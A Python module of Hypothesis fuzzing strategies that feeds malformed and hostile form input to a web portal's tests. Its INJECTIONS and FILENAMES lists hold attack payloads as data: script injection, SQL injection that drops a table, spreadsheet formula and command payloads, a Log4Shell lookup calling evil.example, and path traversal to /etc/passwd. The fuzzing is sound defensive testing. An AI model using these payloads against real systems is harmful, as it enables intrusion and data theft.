"""What a hostile or careless client sends instead of answers: hypothesis strategies.

Every value is bytes, because what reaches the server is bytes: a form body can carry
what no Python string encodes (a lone surrogate escaped as UTF-8, half a multibyte
character, Latin-1), and the portal must read those as safely as the text a browser
sends. The lists name each case so a failure reads as what was sent, not as a blob.
"""

from __future__ import annotations

from hypothesis import strategies as st

#: Characters that reach forms through copy and paste, screen readers' text or malice.
UNICODE_EDGES = (
    "\u200f\u202eabc\u202c",  # right-to-left mark, then an override (Trojan Source)
    "\u200b\u200c\u200d\ufeff",  # zero-width space, non-joiner, joiner, byte order mark
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",  # a letter under eight accents
    "Z\u0351\u0352\u0353\u0354" * 40,  # "zalgo": combining marks piled up
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # one family emoji
    "\U0001f1ea\U0001f1f8 \U0001f3f3\ufe0f\u200d\U0001f308",  # flags
    "\uff46\uff55\uff4c\uff4c \uff20 \uff45\uff58\uff0e\uff45\uff53",  # full-width letters, at sign
    "İstanbul ß ǅ ﬁ",  # letters whose case mapping changes their length
    "مرحبا بالعالم",  # Arabic
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594",  # mathematical letters (astral)
    "\u0000",  # NUL
    "a\u0000b",
    "\t\n\r\x0b\x0c",  # whitespace that is not a space
    "\x01\x02\x1b[31mred\x1b[0m\x7f",  # control characters and a terminal escape
    "\u2028\u2029\u0085",  # Unicode line and paragraph separators, next line
    "\ufffd\ufffe\uffff",  # replacement character and noncharacters
    "\U0010ffff",  # the last code point
    " ",
    "   padded   ",
)

#: Bytes that are not UTF-8 at all.
INVALID_UTF8 = (
    b"\xed\xa0\x80",  # U+D800, a lone surrogate, escaped as UTF-8 (CESU-8)
    b"\xed\xb2\xa9\xed\xa0\xbd",  # a surrogate pair written as two halves
    b"\xc3",  # half of "é"
    b"\xff\xfe\x00a",  # a UTF-16 byte order mark
    b"caf\xe9",  # Latin-1
    b"\xc0\xaf",  # an overlong "/" (a classic filter bypass)
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
)

#: Numbers as text and text where numbers go.
NUMBERISH = (
    "0",
    "-1",
    "-0",
    "1e309",
    "1e-400",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x1F",
    "1_000",
    "1,5",
    "1.5",
    " 7 ",
    "99999999999999999999999999999",
    "-99999999999999999999999999999",
    "9223372036854775808",  # one more than a 64-bit integer
    "\uff11\uff12",  # full-width digits
    "٣٤",  # Arabic-Indic digits
    "²",
    "Ⅻ",
    "twelve",
    "12abc",
    "true",
    "null",
    "[]",
    "{}",
)

#: Days, months and years that are not, and dates in shapes the boxes do not expect.
DATEISH = (
    "31",
    "30",
    "29",
    "0",
    "00",
    "13",
    "32",
    "-5",
    "2024-02-30",
    "1899",
    "0001",
    "9999",
    "10000",
    "20/12/2024",
    "12.2024",
)

#: Text with a meaning somewhere else: markup, formulas, SQL, templates, format strings.
INJECTIONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' OR '1'='1' --",
    "'; DROP TABLE accounts; --",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "%(name)s %s %d {0} {}",
    "${jndi:ldap://evil.example/a}",
    "\\\\server\\share",
    "//evil.example/",
    "https://evil.example/",
    "data:text/html,<h1>hi</h1>",
)

#: File names that try to leave the upload folder, or say nothing, or lie.
FILENAMES = (
    "",
    " ",
    ".",
    "..",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "%2e%2e%2fsecret",
    "name\x00.pdf",
    "file.pdf\n.html",
    "CON",
    "a" * 300 + ".pdf",
    "\u202egnp.exe",  # shown as "exe.png"
    "é\u0301.png",
    "document.pdf",
    "photo.JPG",
    "scan.png.exe",
)

CONTENT_TYPES = (
    "application/pdf",
    "image/png",
    "image/jpeg",
    "text/html",
    "application/x-msdownload",
    "application/octet-stream",
    "",
    "not a type",
    "image/svg+xml",
)

#: The first bytes of the kinds the portal keeps, so some random files look right at first.
SIGNATURES = (b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff")

#: JSON that is not what a WebAuthn answer or an OAuth client sends.
JSONISH = (
    "{}",
    "[]",
    "null",
    "1",
    '"text"',
    "{",
    '{"id": 1}',
    '{"id": "AAAA", "rawId": "AAAA", "type": "public-key", "response": {}}',
    '{"id": "####", "rawId": "####", "type": "public-key", '
    '"response": {"clientDataJSON": "!!", "authenticatorData": "", "signature": ""}}',
    '{"id": "AAAA", "rawId": "AAAA", "type": "public-key", "response": '
    '{"clientDataJSON": "e30", "authenticatorData": "AAAA", "signature": "AAAA", '
    '"userHandle": 5}}',
    '{"id": "AAAA", "rawId": "AAAA", "type": "public-key", "response": '
    '{"clientDataJSON": "e30", "attestationObject": "o2NmbXRkbm9uZQ"}}',
    '{"a": ' * 2000 + "1" + "}" * 2000,  # deeper than a parser's recursion limit
    '{"id": "' + "A" * 5000 + '"}',
    "NaN",
    '{"__proto__": {"admin": true}}',
)


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


#: Any text a keyboard, a paste or a script could produce (surrogates cannot be encoded:
#: they come as bytes in INVALID_UTF8).
any_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=0, max_size=40
).map(_utf8)

#: Long text: just over the limits forms set (200, 254, 2000...) and far over them.
long_text = st.sampled_from((201, 255, 321, 2_001, 10_001, 100_001)).flatmap(
    lambda size: st.sampled_from(("a", "é", "\U0001f600", " ", "9")).map(
        lambda char: _utf8(char * size)
    )
)

#: Longer than Werkzeug keeps in memory for one form field (``MAX_FORM_MEMORY_SIZE``).
beyond_form_memory = st.just(b"x" * 600_000)

hostile_text = st.one_of(
    st.sampled_from(UNICODE_EDGES).map(_utf8),
    st.sampled_from(INVALID_UTF8),
    st.sampled_from(NUMBERISH).map(_utf8),
    st.sampled_from(DATEISH).map(_utf8),
    st.sampled_from(INJECTIONS).map(_utf8),
    st.sampled_from(FILENAMES).map(_utf8),
    st.sampled_from(JSONISH).map(_utf8),
    any_text,
    long_text,
)

file_bytes = st.one_of(
    st.just(b""),
    st.binary(min_size=1, max_size=64),
    st.tuples(st.sampled_from(SIGNATURES), st.binary(max_size=64)).map(lambda two: b"".join(two)),
    st.sampled_from((b"<html><script>alert(1)</script></html>", b"MZ\x90\x00", b"GIF89a")),
)
